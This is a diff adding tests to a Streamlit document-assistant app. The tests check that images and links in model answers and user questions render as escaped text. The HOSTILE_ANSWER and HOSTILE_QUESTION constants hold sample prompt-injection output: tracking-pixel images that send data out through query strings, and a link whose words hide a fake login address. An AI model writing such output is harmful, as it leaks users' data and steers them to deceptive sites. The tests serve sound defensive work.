@@ -3,6 +3,7 @@ sharing `?share=`, and what happens without a model."""
 
 from __future__ import annotations
 
+import json
 import re
 from pathlib import Path
 
@@ -335,3 +336,103 @@ def test_a_failed_turn_shows_what_to_do_and_keeps_the_question(indexed, cooperat
     assert turn.question == QUESTION and turn.stop_reason
     reopened = app(thread=thread_id)  # the stored turn renders the same message
     assert "I had to stop before answering" in texts(reopened.chat_message[1])
+
+
+# ----------------------------------------------------------------------------- untrusted text
+
+PIXEL = "http://127.0.0.1:9/pixel.png"
+HOSTILE_QUESTION = (
+    f"How do I configure the widget timeout? ![q]({PIXEL}?from=question) [me](http://evil.example/q)"
+)
+# What a model obeying text planted in a document writes: images that send data out when
+# the viewer's browser loads them, and a link whose words hide where it goes.
+HOSTILE_ANSWER = (
+    "The widget timeout is set with the **WIDGET_TIMEOUT** variable [1].\n\n"
+    f"![status]({PIXEL}?leak=WIDGET_TIMEOUT)\n\n"
+    "- Sign in on [the vendor portal](http://evil.example/login) first.\n\n"
+    f"![ref][p]\n\n[p]: {PIXEL}?ref=1\n"
+)
+
+
+def markdown_shown(at: AppTest) -> list[str]:
+    """Every string the page hands Streamlit's markdown renderer: elements, headers,
+    alerts, and the labels and tooltips (which render images too)."""
+    values = []
+    for kind in (
+        "markdown",
+        "caption",
+        "header",
+        "title",
+        "subheader",
+        "error",
+        "warning",
+        "info",
+        "success",
+    ):
+        values += [str(e.value) for e in getattr(at, kind)]
+    values += [e.label for e in at.expander]
+    values += [e.proto.label for e in at.status]
+    values += [b.label for b in at.button] + [b.help for b in at.button if b.help]
+    return values
+
+
+def assert_no_images(at: AppTest) -> None:
+    shown = markdown_shown(at)
+    # `![` is an image and an unescaped `](` a link whose words may hide its address.
+    offending = [v for v in shown if "![" in v or re.search(r"(?<!\\)\]\(", v)]
+    assert not offending, offending
+
+
+def hostile_turn(model) -> None:
+    model.search("widget timeout")
+    for _ in range(2):  # the same answer if verification asks for another draft
+        model.script("generate", HOSTILE_ANSWER)
+        model.script(
+            "verify",
+            json.dumps(
+                {
+                    "claims": [
+                        {
+                            "claim": "The widget timeout is set with the WIDGET_TIMEOUT variable.",
+                            "supported": True,
+                            "sources": [1],
+                        }
+                    ]
+                }
+            ),
+        )
+
+
+def assert_answer_shown_as_text(at: AppTest) -> None:
+    answer = texts(at.chat_message[1])
+    assert "**WIDGET_TIMEOUT** variable \\[1\\]" in answer or "**WIDGET_TIMEOUT** variable [1]" in answer
+    assert f"\\[image: status — `{PIXEL}?leak=WIDGET_TIMEOUT` not loaded\\]" in answer
+    assert f"\\[image: ref — `{PIXEL}?ref=1` not loaded\\]" in answer
+    assert "the vendor portal (`http://evil.example/login`)" in answer
+    question = at.chat_message[0].markdown[0].value
+    assert question.startswith("How do I configure the widget timeout? !\\[q\\]")
+    assert "\\[me\\](http://evil.example/q)" in question  # shown as typed, not a link
+
+
+def test_images_in_answers_questions_and_titles_are_shown_as_text(indexed, model):
+    at = app()
+    hostile_turn(model)
+    ask(at, HOSTILE_QUESTION)
+    assert_answer_shown_as_text(at)  # live
+    assert_no_images(at)
+    thread_id = at.query_params["thread"]
+    assert load_turns(thread_id)[0].answer.startswith("The widget timeout")  # stored as written
+
+    restored = app(thread=thread_id)
+    assert not restored.exception, restored.exception
+    assert_answer_shown_as_text(restored)
+    assert restored.header[0].value.startswith("How do I configure the widget timeout? !\\[q\\]")
+    assert any(b.help and "!\\[q\\]" in b.help for b in restored.sidebar.button)  # the title's tooltip
+    assert_no_images(restored)
+
+    token = share_token(restored)
+    shared = app(share=token)
+    assert not shared.exception, shared.exception
+    assert_answer_shown_as_text(shared)
+    assert shared.header[0].value.startswith("How do I configure the widget timeout? !\\[q\\]")
+    assert_no_images(shared)
